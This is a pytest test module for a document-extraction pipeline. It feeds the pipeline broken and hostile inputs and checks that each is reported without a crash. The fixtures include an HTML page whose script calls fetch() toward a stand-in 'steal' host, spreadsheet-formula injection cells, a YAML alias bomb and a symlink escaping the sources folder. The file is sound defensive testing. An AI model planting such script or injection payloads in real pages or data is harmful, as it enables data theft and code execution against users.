"""Bad input gets a clear error and loses nothing.

A folder of broken inputs is made here, beside copies of the good guides, and run
in one ``python -m pipeline run``: the good guides' records must be exactly those
of the committed outputs (each guide extracted alone), every broken file must have
its rows in errors.csv, the exit status must be 1 and stderr must hold no traceback.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from pipeline.changes import read_rows
from pipeline.extract import extract
from pipeline.sources import MAX_SOURCE_BYTES
from tests.conftest import ROOT, SEED, SOURCES

SEED_TEXT = SEED.read_text("utf-8")
OTHER_ID = "B000001"  # broken copies of the seed get their own catalog number


def seed_copy(text: str = SEED_TEXT) -> str:
    return text.replace("B560044", OTHER_ID).replace("b560044", OTHER_ID.lower())


def seed_as(catalog: str) -> str:
    return SEED_TEXT.replace("B560044", catalog)


def guide(body: str, catalog: str | None) -> str:
    """A small guide around ``body``; without a catalog number it is named after its file."""
    number = f"Cat. No.: {catalog}\n\n" if catalog else ""
    return (f"A Guide to Testing\n\nAuthor: Team. Date: May 2025\n\nCompound Name: X\n\n"
            f"{number}Intro paragraph.\n\n{body}\n")


def with_legacy_line(text: str, encoding: str) -> bytes:
    """``text`` as UTF-8 but for one line that another tool saved in ``encoding``."""
    lines = text.split("\n")
    lines[2] += " caf\u00e9 \u2013 na\u00efve"  # the title line
    return b"\n".join(line.encode(encoding if i == 2 else "utf-8") for i, line in enumerate(lines))


def front_matter(yaml: str) -> str:
    return f"---\n{yaml}---\n# A Guide to YAML\n\n" + guide("Data\n\nText.", "B000020").split("\n\n", 1)[1]


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("guide.txt", SEED_TEXT)
    return buffer.getvalue()


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000")
TABLE = ("| Kinase | IC50 (nM) | IC50 (nM) |\n|---|---|---|\n| JAK1 | 5.9 |\n| JAK2 | 5.7 | 1 | 9 |\n"
         "| TYK2 | 53\n")
REFS = ("Results\n\nText cites [1] and [7].\n\nReferences\n\n- 2. B [b.org]\n- 1. A [a.org]\n"
        "- 2. B again [b.org]\n")
PROTOCOL = ("Experimental Protocol: Trial\n\n- Objective: O.\n- Design: D.\n- Flavour: F.\n"
            "- Design: again.\n")
# Long lines of the shapes that make careless regexes quadratic, and a 120-level list.
LONG_LINES = [piece * (200_000 // len(piece)) for piece in ("x", "[a](", "[1]", "_a", "[", "1,")]
DEEP = ("# A Guide\n\nAuthor: Team. Date: May 2025\n\n## Part\n\n###### Too deep\n\n"
        + "\n\n".join(LONG_LINES) + "\n\n" + "".join("  " * i + "- level\n" for i in range(120)))
ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{k}: &{k} [{', '.join([f'*{j}'] * 9)}]\n" for j, k in zip("abcdefg", "bcdefgh", strict=True))
NUMBERS = ("| Measure | Value |\n|---|---|\n| Huge | 9.9 × 10^308 |\n| Count | 10^6 |\n"
           "| Spaced | 1\u200b234.5 |\n| Rate | 1.5e-3 |\n| Marked | 1\u200e234.5 |\n"
           "| Times | 1\u2062234 |\n| Grouped | 1\u202f234.5 |\n| Long exponent | 2 × 10^" + "9" * 5000
           + " |\n| Long power | 10^99999 |\n")
HOSTILE = """<!DOCTYPE html><html><head><title>Page title</title>
<script>alert('x');fetch('http://example.invalid/steal')</script><style>p{}</style></head>
<body><h1>Hostile Guide</h1><p>Author: Team. Date: May 2025</p><!-- hidden [9] -->
<p>Cat. No.: B000009</p><iframe src="http://example.invalid/frame"></iframe>
<form action="http://example.invalid/post"><input name="q" value="=SUM(A1)"></form>
<h2>Data</h2><table><tr><th>Kinase</th><th>IC50 (nM)</th></tr>
<tr><td>JAK1<script>document.write('x')</script></td><td>5.9</td></tr></table>
<p>Unclosed <b>bold and <i>italic
"""

BROKEN: dict[str, bytes] = {
    "empty.txt": b"",
    "blank.txt": b"  \n\t\n   \n",
    "image.png": PNG,
    "archive.zip": _zip_bytes(),
    "undecodable.txt": bytes(range(128, 256)) * 20,
    "nul.txt": (seed_copy() * 2).encode("utf-8")[:9000] + b"\x00tail",
    "shop.html": b"<html><body><p>Your cart is empty.</p><a href='/'>Continue shopping</a></body></html>",
    "login.txt": b"Sign in\n\nEmail address\n\nPassword\n\nForgot your password?\n",
    "cut.txt": seed_copy()[:5200].encode("utf-8"),
    "table.txt": guide("Data\n\n" + TABLE + "\nEmpty\n\n| a | b |\n|---|---|\n", "B000002").encode(),
    "refs.txt": guide(REFS, "B000003").encode(),
    "protocol.txt": guide(PROTOCOL, "B000004").encode(),
    "deep.md": DEEP.replace("# A Guide", "# A Guide\n\nCat. No.: B000005", 1).encode(),
    "hostile.html": HOSTILE.encode(),
    "twin-a.txt": guide("Data\n\nText.", "B000006").encode(),
    "twin-b.txt": guide("Other\n\nText.", "B000006").encode(),
    "formula.txt": guide("Data\n\n| Name | Value |\n|---|---|\n| =SUM(A1:A9) | @cmd |\n",
                         "B000007").encode(),
    "utf16.txt": seed_as("B000010").encode("utf-16"),  # what editors save as "Unicode"
    "utf32.txt": seed_as("B000011").encode("utf-32"),
    "mixed-encoding.txt": with_legacy_line(seed_as("B000012"), "cp1252"),
    "alias-bomb.md": front_matter(ALIAS_BOMB).encode(),
    "deep-yaml.md": front_matter("x: " + "[" * 20_000 + "\n").encode(),
    "bad-date.md": front_matter("published: 2025-13-45\n").encode(),
    "numbers.txt": guide("Data\n\n" + NUMBERS, "B000013").encode(),
    "long-catalog.txt": guide("Data\n\nText.", "B" + "1" * 300).encode(),
    "n" * 240 + ".txt": guide("Data\n\nText.", None).encode(),
    "-dash.txt": guide("Data\n\nText.", None).encode(),
    # One line of multi-byte UTF-8 among ASCII lines, and two lines another tool saved in latin-1.
    "mostly-ascii.txt": b"\n".join([
        guide("Data\n\n| Dose | Amount |\n|---|---|\n| Low | 5 \u00b5g |", "B000017").encode("utf-8"),
        "Stray line caf\u00e9.".encode("latin-1"), b"ASCII line.",
        "Another na\u00efve one.".encode("latin-1")]),
    "wide-cell.txt": guide("Data\n\n| Name | Note |\n|---|---|\n| x | " + "w" * 200_000 + " |\n",
                           "B000014").encode(),
}
NOT_UTF8_NAME = os.fsdecode(b"caf\xe9.txt")  # a name another system wrote in latin-1
SECRET = "Top secret text that lives outside the sources folder"

# What each broken file must report: (severity, words in the message, has a line).
EXPECTED: dict[str, list[tuple[str, str, bool]]] = {
    "empty.txt": [("error", "empty", False)],
    "blank.txt": [("error", "only whitespace", False)],
    "image.png": [("error", "binary (Portable Network Graphics", False)],
    "archive.zip": [("error", "binary", False)],
    "undecodable.txt": [("error", "not text in UTF-8 or any legacy encoding", False)],
    "nul.txt": [("error", "NUL byte", True)],
    "shop.html": [("error", "not a guide", True)],
    "login.txt": [("error", "not a guide", True)],
    "cut.txt": [("warning", "cut off", True)],
    "table.txt": [("warning", "'IC50 (nM)' appears 2 times", True),
                  ("warning", "row has 2 cells but the header has 3", True),
                  ("warning", "row has 4 cells but the header has 3", True),
                  ("warning", "cut off in its last row", True),
                  ("warning", "no body rows", True)],
    "refs.txt": [("warning", "reference 1 is out of order", True),
                 ("warning", "reference 2 is listed twice", True),
                 ("warning", "citation [7] has no reference 7", True)],
    "protocol.txt": [("warning", "not a known field: 'Flavour: F.'", True),
                     ("warning", "'design' given twice", True)],
    "deep.md": [("warning", "heading level 6 is deeper", True)],
    "twin-a.txt": [("error", "also given by sources/twin-b.txt", False)],
    "twin-b.txt": [("error", "also given by sources/twin-a.txt", False)],
    "formula.txt": [("warning", "starts like a spreadsheet formula ('=SUM(A1:A9)')", True),
                    ("warning", "starts like a spreadsheet formula ('@cmd')", True)],
    "too-big.txt": [("error", "over the", False)],
    "mixed-encoding.txt": [("warning", "the file is UTF-8 but line 3 is not; read as cp1252", True)],
    "mostly-ascii.txt": [("warning", "the file is UTF-8 but lines 17, 19 are not", True)],
    "alias-bomb.md": [("warning", "uses a YAML alias", True)],
    "deep-yaml.md": [("warning", "nests values more than 16 levels deep", True)],
    "bad-date.md": [("warning", "published '2025-13-45' is not a calendar date", True)],
    "numbers.txt": [("warning", "'9.9 × 10^308' cannot be held as a 64-bit float", True)],
    "link.txt": [("error", "a link to a file outside the sources folder", False)],
}


Run = tuple[Path, subprocess.CompletedProcess[str]]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(read_rows(handle))  # as the run reads them back: fields of any length


@pytest.fixture(scope="module")
def mixed_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    work = tmp_path_factory.mktemp("mixed")
    sources = work / "sources"
    sources.mkdir()
    for path in SOURCES:
        shutil.copy(path, sources / path.name)
    for name, data in BROKEN.items():
        (sources / name).write_bytes(data)
    with (sources / "too-big.txt").open("wb") as handle:  # sparse: cheap to make, refused unread
        handle.truncate(MAX_SOURCE_BYTES + 1)
    (sources / NOT_UTF8_NAME).write_bytes(guide("Data\n\nText.", "B000015").encode())
    (work / "outside.txt").write_text(guide(SECRET, "B000016"), "utf-8")
    (sources / "link.txt").symlink_to(work / "outside.txt")
    done = subprocess.run([sys.executable, "-m", "pipeline", "run", "--out", "outputs"],
                          cwd=work, capture_output=True, text=True, check=False, timeout=300)
    return work, done


def test_exit_status_is_1_without_a_traceback(mixed_run: Run) -> None:
    _, done = mixed_run
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    for name in EXPECTED:
        assert f"sources/{name}" in done.stderr, name  # every file is named on stderr


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_broken_file_has_its_error_rows(name: str, mixed_run: Run) -> None:
    work, _ = mixed_run
    rows = [r for r in read_csv(work / "outputs" / "errors.csv")
            if r["source_path"] == f"sources/{name}"]
    for severity, words, has_line in EXPECTED[name]:
        matching = [r for r in rows if r["severity"] == severity and words in r["message"]]
        assert matching, (words, rows)
        assert bool(matching[0]["line"]) is has_line, matching[0]


def test_good_guides_are_untouched(mixed_run: Run) -> None:
    work, _ = mixed_run
    for csv_path in sorted((ROOT / "outputs").glob("*.csv")):
        alone = read_csv(csv_path)
        good_ids = {r["doc_id"] for r in read_csv(ROOT / "outputs" / "documents.csv")}
        mixed = [r for r in read_csv(work / "outputs" / csv_path.name) if r["doc_id"] in good_ids]
        assert mixed == alone, csv_path.name


def test_records_of_failed_documents_are_withheld(mixed_run: Run) -> None:
    work, _ = mixed_run
    ids = {r["doc_id"] for r in read_csv(work / "outputs" / "documents.csv")}
    assert "B000006" not in ids  # the twins: neither overwrites the other
    assert {"B000002", "B000003", "B000004", "B000005", "B000007", OTHER_ID} <= ids  # warnings keep


def test_hostile_html_exports_nothing_it_hides(mixed_run: Run) -> None:
    work, _ = mixed_run
    everything = "".join(p.read_text("utf-8") for p in (work / "outputs").rglob("*") if p.is_file())
    for hidden in ("alert(", "example.invalid", "document.write", "hidden [9]", "Page title"):
        assert hidden not in everything
    cells = [r for r in read_csv(work / "outputs" / "table_cells.csv") if r["doc_id"] == "B000009"]
    assert [c["text"] for c in cells] == ["JAK1", "5.9"]


def test_cut_guide_keeps_what_was_read() -> None:
    doc = extract(BROKEN["cut.txt"], "sources/cut.txt")
    assert len(doc.records.tables) == 1  # the first table, complete before the cut
    assert not doc.failed


def documents(work: Path) -> dict[str, dict[str, str]]:
    """documents.csv by source file name."""
    return {Path(r["source_path"]).name: r for r in read_csv(work / "outputs" / "documents.csv")}


def test_bom_files_are_text(mixed_run: Run) -> None:
    work, _ = mixed_run
    seed = documents(ROOT)["000_990584d1ff24284d.txt"]
    for name, encoding in (("utf16.txt", "utf-16"), ("utf32.txt", "utf-32")):
        row = documents(work)[name]
        assert row["encoding"] == encoding
        assert row["title"] == seed["title"]


def test_mixed_encoding_keeps_its_utf8_text(mixed_run: Run) -> None:
    work, _ = mixed_run
    assert documents(work)["mixed-encoding.txt"]["encoding"] == "utf-8"
    text = "".join(p.read_text("utf-8") for p in (work / "outputs").glob("*.csv"))
    assert "café – naïve" in text
    seed_cells = [r["text"] for r in read_csv(ROOT / "outputs" / "table_cells.csv")
                  if r["doc_id"] == "B560044"]
    cells = [r["text"] for r in read_csv(work / "outputs" / "table_cells.csv") if r["doc_id"] == "B000012"]
    assert cells == seed_cells  # the UTF-8 part (≥, –, ×) is not mojibake


def test_numbers_are_exact_or_refused(mixed_run: Run) -> None:
    work, _ = mixed_run
    cells = {r["row_label"]: r for r in read_csv(work / "outputs" / "table_cells.csv")
             if r["doc_id"] == "B000013" and r["col_index"] == "1"}
    assert (cells["Huge"]["text"], cells["Huge"]["value"]) == ("9.9 × 10^308", "")
    assert float(cells["Count"]["value"]) == 1e6
    assert (cells["Spaced"]["text"], float(cells["Spaced"]["value"])) == ("1234.5", 1234.5)
    assert float(cells["Rate"]["value"]) == 0.0015
    for invisible in ("Marked", "Times"):  # a direction mark, an invisible operator: removed
        assert cells[invisible]["text"].startswith("1234") and float(cells[invisible]["value"]) > 1000
    assert float(cells["Grouped"]["value"]) == 1234.5  # a narrow space groups thousands
    assert cells["Long exponent"]["value"] == cells["Long power"]["value"] == ""  # never 2 or 10


def test_every_json_output_is_strict_json(mixed_run: Run) -> None:
    work, _ = mixed_run

    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    for path in (work / "outputs").rglob("*.json*"):
        text = path.read_text("utf-8")
        lines = text.splitlines() if path.suffix == ".jsonl" else [text]
        for line in lines:
            json.loads(line, parse_constant=refuse)


def test_ids_and_names_are_safe_as_file_names(mixed_run: Run) -> None:
    work, _ = mixed_run
    rows = documents(work)
    long_id = rows["long-catalog.txt"]["doc_id"]
    assert len(long_id) == 100 and long_id.startswith("B111") and "-" in long_id
    assert (work / "outputs" / "documents" / f"{long_id}.json").is_file()
    long_name = rows["n" * 240 + ".txt"]["doc_id"]
    assert len(long_name) == 100 and (work / "outputs" / "documents" / f"{long_name}.json").is_file()
    assert rows["-dash.txt"]["doc_id"] == "dash"
    assert rows["caf\\xe9.txt"]["source_path"] == "sources/caf\\xe9.txt"  # escaped, not dropped
    assert rows["caf\\xe9.txt"]["doc_id"] == "B000015"


def test_a_cell_longer_than_the_csv_field_limit_reads_back(mixed_run: Run) -> None:
    work, _ = mixed_run
    diff = subprocess.run([sys.executable, "-m", "pipeline", "diff", "outputs", "outputs"],
                          cwd=work, capture_output=True, text=True, check=False, timeout=120)
    assert diff.returncode == 0, diff.stderr
    review = subprocess.run([sys.executable, "-m", "pipeline", "review"],
                            cwd=work, capture_output=True, text=True, check=False, timeout=300)
    assert review.returncode == 0, review.stderr
    assert any(len(r["text"]) == 200_000 for r in read_csv(work / "outputs" / "table_cells.csv"))


def test_a_link_out_of_the_sources_folder_is_never_read(mixed_run: Run) -> None:
    work, _ = mixed_run
    everything = "".join(p.read_text("utf-8") for p in (work / "outputs").rglob("*") if p.is_file())
    assert SECRET not in everything
    assert "B000016" not in everything


def test_mostly_ascii_utf8_keeps_its_utf8(mixed_run: Run) -> None:
    work, _ = mixed_run
    row = documents(work)["mostly-ascii.txt"]
    assert row["encoding"] == "utf-8"
    text = (work / "outputs" / "documents" / f"{row['doc_id']}.json").read_text("utf-8")
    assert "5 µg" in text and "Âµ" not in text
